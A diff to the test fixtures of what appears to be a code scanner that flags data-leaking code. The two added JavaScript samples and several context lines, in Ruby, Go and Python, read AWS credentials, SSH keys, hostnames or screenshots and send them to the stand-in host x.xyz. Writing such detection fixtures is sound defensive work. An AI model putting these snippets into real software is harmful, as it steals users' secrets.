@@ -607,6 +607,10 @@ pair("host.py", "code.sends-host", "suspicious", "import socket, requests\nwho =
      "import socket, requests\nwho = socket.gethostname()\nrequests.get(url + who)\nrequests.get('http://localhost:8500/' + who)\nsocket.gethostbyname(socket.gethostname())\n")
 pair("host-name.go", "code.sends-host", "suspicious", 'package a\nfunc f() {\n\th, _ := os.Hostname()\n\tnet.LookupHost(h + ".x.xyz")\n}\n', 'package a\nfunc f() {\n\th, _ := os.Hostname()\n\tnet.LookupHost(h)\n}\n')
 pair("key.rb", "code.sends-secrets", "bad", "require 'httparty'\nk = ENV['AWS_SECRET_ACCESS_KEY']\nHTTParty.post('https://x.xyz', body: k)\n", "require 'httparty'\nk = ENV['REGION']\nHTTParty.post(url, body: k)\n")
+pair("on-the-spot.js", "code.sends-secrets", "bad", 'const e = require("fs").readFileSync(home + "/.aws/credentials");\nrequire("https").get("https://x.xyz/?" + e)\n',
+     'const e = require("fs").readFileSync(home + "/.aws/readme");\nrequire("https").get("https://x.xyz/?" + e)\n')
+pair("chained.js", "code.sends-secrets", "bad", 'const e = fs.readFileSync(home + "/.aws/credentials");\nrequire("node:https").request("https://x.xyz/", { method: "POST" }).end(e)\n',
+     'const e = fs.readFileSync(home + "/.aws/credentials");\nkeep("https://x.xyz/", { method: "POST" }).end(e)\n')
 pair("socket.go", "code.sends-secrets", "bad", 'package a\nfunc f() {\n\td, _ := os.ReadFile("/var/lib/.ssh/id_rsa")\n\tc, _ := net.Dial("tcp", "x.xyz:1")\n\tc.Write(d)\n}\n',
      'package a\nfunc f() {\n\td, _ := os.ReadFile("/var/lib/.ssh/id_rsa.pub")\n\tc, _ := net.Dial("tcp", host)\n\tc.Write(d)\n}\n')
 pair("screen.py", "code.spies", "suspicious", "import requests\nfrom PIL import ImageGrab\nimage = ImageGrab.grab()\nrequests.post(url, files={'f': image.tobytes()})\n", "from PIL import ImageGrab\nimage = ImageGrab.grab()\nimage.save('a.png')\n")
